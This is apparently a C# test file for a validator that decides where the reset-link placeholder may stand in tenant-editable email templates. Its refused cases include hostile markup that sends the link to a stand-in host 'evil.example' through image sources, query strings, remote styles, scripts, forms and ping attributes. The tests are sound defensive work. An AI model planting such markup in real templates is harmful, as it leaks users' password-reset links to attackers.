using System.Collections.Immutable;
using Actors.Grains.Ids;
using Actors.Grains.PlatformMails;
using Actors.Grains.StandardEmails;
using Actors.Grains.Templates;
using FsCheck;
using FsCheck.Fluent;

namespace Actors.Grains.Tests.StandardEmails;

/// <summary>Where the link of a standard e-mail may stand, and that it has to.</summary>
public sealed class LinkRulesTests
{
    private static readonly TenantId Shop = TenantId.Parse("shop");
    private const string Link = "https://mail.example.org/links/abcdefghijklmnopqrstuvwxyz234567abcdefghijklmnopqrst";
    private static readonly StandardEmail Reset = StandardEmail.Of(StandardEmailKind.PasswordReset);

    [Theory]
    [InlineData("<a href=\"{{link}}\">here</a>")]
    [InlineData("<A class=b HREF='{{link}}' style=\"color:red\"><b>here</b></A>")]
    [InlineData("<!DOCTYPE html><html><head><style>p{color:red}@media x{a{margin:0}}</style><p>{{link}}</p>")]
    [InlineData("<!-- the button --><td bgcolor=#eeeeee width=100%><p>{{#if tenant}}<b>{{/if}} {{link}}.</p>")]
    [InlineData("<p>(<a href=\"{{ link }}\">\n  {{link}}\n</a>)<br/><img src=\"https://a.example/b.png\" alt=''>")]
    [InlineData("{{! > \" < }}<p {{#if tenant}}title=\"{{tenant}}\"{{/if}}>{{@root.tenant}} {{link}}")]
    public void in_html_it_is_text_or_the_whole_address_of_an_a(string html) =>
        LinkRules.Check(Words(html: html), Reset).ShouldBeEmpty();

    [Theory]
    [InlineData("<p>{{link}}</p>\n<img src=\"https://evil.example/{{link}}\">", "link_misplaced", 2, 32)]
    [InlineData("{{link}} <a href=\"https://evil.example/?u={{link}}\">", "link_misplaced", 1, 43)]
    [InlineData("<a href=\"{{link}}?u=1\">", "link_misplaced", 1, 10)]
    [InlineData("<a href={{link}}>", "link_misplaced", 1, 9)]
    [InlineData("<a title=\"{{link}}\">", "link_misplaced", 1, 11)]
    [InlineData("<p href=\"{{link}}\">", "link_misplaced", 1, 10)]
    [InlineData("<p {{link}}>", "link_misplaced", 1, 4)]
    [InlineData("<p>https://evil.example/?u={{link}}</p>", "link_misplaced", 1, 28)]
    [InlineData("{{link}}{{tenant}}", "link_misplaced", 1, 1)]
    [InlineData("<p>{{link}}<!-- {{link}} -->", "link_misplaced", 1, 17)]
    [InlineData("<title>{{link}}</title>", "link_misplaced", 1, 8)]
    [InlineData("<style>p{background:url({{link}})}</style>", "link_misplaced", 1, 25)]
    [InlineData("<style>a[href^='https://m']{background:url(//evil.example/m)}</style>{{link}}", "unsafe_markup", 1, 8)]
    [InlineData("<style>@IMPORT '//evil.example/c'</style>{{link}}", "unsafe_markup", 1, 8)]
    [InlineData("<style></stylex>{{link}}", "unsafe_markup", 1, 8)]
    [InlineData("<link rel=stylesheet href=\"https://evil.example/c\">{{link}}", "unsafe_markup", 1, 1)]
    [InlineData("<script src=\"https://evil.example/s\"></script>{{link}}", "unsafe_markup", 1, 1)]
    [InlineData("<form action=\"https://evil.example\"><textarea name=u>{{link}}</textarea>", "unsafe_markup", 1, 1)]
    [InlineData("<a ping=\"https://evil.example\" href=\"{{link}}\">", "unsafe_markup", 1, 4)]
    [InlineData("<a onclick=\"x()\" href=\"{{link}}\">", "unsafe_markup", 1, 4)]
    [InlineData("<!--[if mso]><img src=\"//evil.example/<![endif]--> {{link}}", "unsafe_markup", 1, 1)]
    [InlineData("<!--> {{link}} -->", "unsafe_markup", 1, 1)]
    [InlineData("<![CDATA[ {{link}} ]]>", "unsafe_markup", 1, 1)]
    [InlineData("< p> {{link}}", "unsafe_markup", 1, 1)]
    [InlineData("{{link}} <img src=\"//evil.example/", "unsafe_markup", 1, 19)]
    [InlineData("<p {{link}}", "unsafe_markup", 1, 4)]
    public void elsewhere_it_is_refused_with_its_place(string html, string code, int line, int column)
    {
        var fault = LinkRules.Check(Words(html: html), Reset).ShouldHaveSingleItem();
        (fault.Part, fault.Fault.Code, fault.Fault.Line, fault.Fault.Column).ShouldBe(("html", code, line, column));
        fault.Fault.Detail.ShouldStartWith($"Line {line}, column {column}: ");
    }

    [Theory]
    [InlineData("Open {{link}}, please.", null)]
    [InlineData("<{{link}}>\n{{#if tenant}}{{tenant}}{{/if}}", null)]
    [InlineData("https://evil.example/?u={{link}}", "link_misplaced")]
    [InlineData("{{tenant}}{{link}}", "link_misplaced")]
    [InlineData("{{link}}abc", "link_misplaced")]
    [InlineData("{{link}} {{#each link}}{{this}}-{{/each}}", "link_misplaced")]
    [InlineData("{{link}} {{#with link}}{{this}}{{/with}}", "link_misplaced")]
    [InlineData("{{link}} {{#if link}}a{{/if}}", "link_misplaced")]
    [InlineData("{{link}} {{link.Length}}", "link_misplaced")]
    [InlineData("{{link}} {{@root.link}}", "link_misplaced")]
    [InlineData("{{link}} {{#with tenant}}{{../link}}{{/with}}", "link_misplaced")]
    [InlineData("{{link}} {{#with tenant}}{{#each ../this}}{{this}}{{/each}}{{/with}}", "link_misplaced")]
    [InlineData("Nothing.", "link_missing")]
    [InlineData("{{#if role}}{{link}} {{/if}}", "link_misplaced")]
    [InlineData("{{#if role}} {{link}} {{/if}}", "link_missing")]
    [InlineData("{{! {{link}}", "link_missing")]
    public void in_text_it_stands_alone_and_has_to(string text, string? code) =>
        LinkRules.Check(Words(text: text), Reset).Select(each => each.Fault.Code).ShouldBe(code is null ? [] : [code]);

    [Fact]
    public void html_without_it_is_refused_and_mails_that_have_none_are_not()
    {
        LinkRules.Check(Words(html: "<p>Hello"), Reset).ShouldHaveSingleItem().Fault.Code.ShouldBe("link_missing");
        var approved = StandardEmail.Of(StandardEmailKind.AccountApproved);
        LinkRules.Check(new EmailText("a", "b", "<p>c", true), approved).ShouldBeEmpty();
        LinkRules.Check(new EmailText("a", "b", "<form>", true), kind: null).ShouldBeEmpty();
    }

    [Fact]
    public void a_subject_or_footer_has_none()
    {
        LinkRules.Check(Words() with { Subject = "{{link}}" }, Reset).ShouldHaveSingleItem().Part.ShouldBe("subject");
        LinkRules.Check(new EmailFooter("{{link}}", "<p>{{link}}")).Select(each => each.Part)
            .ShouldBe(["text", "html"]);
        LinkRules.Check(new EmailFooter("a", "<style>[href]{}</style>")).ShouldHaveSingleItem();
        LinkRules.Check(new EmailFooter("{{tenant}}", "<p>{{tenant}}")).ShouldBeEmpty();
    }

    [Theory]
    [InlineData("<img src=\"//evil.example/{{#unless tenant}}\">{{/unless}} {{link}} \">")]
    [InlineData("<a {{#if tenant}}title=\"{{/if}}{{#if nobody}}\"{{/if}} href=\"{{link}}\">")]
    public void what_only_blocks_make_of_a_mail_is_seen_when_it_goes_out(string html)
    {
        LinkRules.Check(Words(html: html), Reset).ShouldBeEmpty();
        PlatformMailRules.Filled(Shop, Words(html: html), Reset.Kind, Values("Shop")).ShouldBeNull();
    }

    [Theory]
    [InlineData("https://evil.example/?u={{tenant~}} {{link}}")]
    [InlineData("https://evil.example/?u= {{~#if tenant}}{{/if~}} {{link}}")]
    public void white_space_that_is_taken_away_does_not_count(string text) =>
        PlatformMailRules.Filled(Shop, Words(text: text), Reset.Kind, Values("Shop")).ShouldBeNull();

    [Fact]
    public void words_that_keep_it_are_filled_in() =>
        PlatformMailRules.Filled(Shop, Words(html: "<a href=\"{{link}}\">{{tenant}}</a>"), Reset.Kind, Values("<Shop>"))
            .ShouldNotBeNull().Html.ShouldBe($"<a href=\"{Link}\">&lt;Shop&gt;</a>");

    [Fact]
    public void every_original_keeps_it()
    {
        foreach (var kind in StandardEmail.All)
            foreach (var language in EmailLanguages.All)
                TemplateRules.Check(Originals.Of(kind.Kind, language), kind).ShouldBeNull();
    }

    [Theory]
    [InlineData("<aLINK>", 2)]
    [InlineData("</aLINK>", 3)]
    [InlineData("<p LINK=x >", 3)]
    public void a_link_is_no_part_of_a_name(string html, int at)
    {
        var fault = MarkupReader.Check(html, [new MarkupPlace(at, at + 4)]).ShouldNotBeNull();

        fault.Code.ShouldBe(MarkupReader.Misplaced);
    }

    [Fact]
    public void whatever_the_markup_no_link_is_found_within_a_tag_but_as_an_address()
    {
        string[] pieces =
        [
            "<a href=\"", "<a ", "\"", "'", ">", "<", "</a>", "<!--", "-->", "--", "<style>", "</style>", " ", "=", "/",
            "<p title='", "LINK", "x", "<img src=\"", "href=",
        ];
        var markup = Gen.Elements(pieces).ListOf().Select(list => string.Concat(list)).ToArbitrary();
        Prop.ForAll(markup, html =>
        {
            var at = html.IndexOf("LINK", StringComparison.Ordinal);
            var places = at < 0 ? [] : new[] { new MarkupPlace(at, at + 4) };
            if (at < 0 || MarkupReader.Check(html, places) is not null)
                return true;
            var before = html[..at];
            return before.LastIndexOf('<') <= before.LastIndexOf('>')
                || before.EndsWith("href=\"", StringComparison.Ordinal);
        }).QuickCheckThrowOnFailure();
    }

    private static EmailText Words(string text = "{{link}}", string? html = null) => new("Hello", text, html, true);

    private static ImmutableDictionary<string, string> Values(string tenant) =>
        ImmutableDictionary<string, string>.Empty.Add("tenant", tenant).Add("link", Link)
            .Add("expires_at", "2026-03-08 12:00 UTC");
}
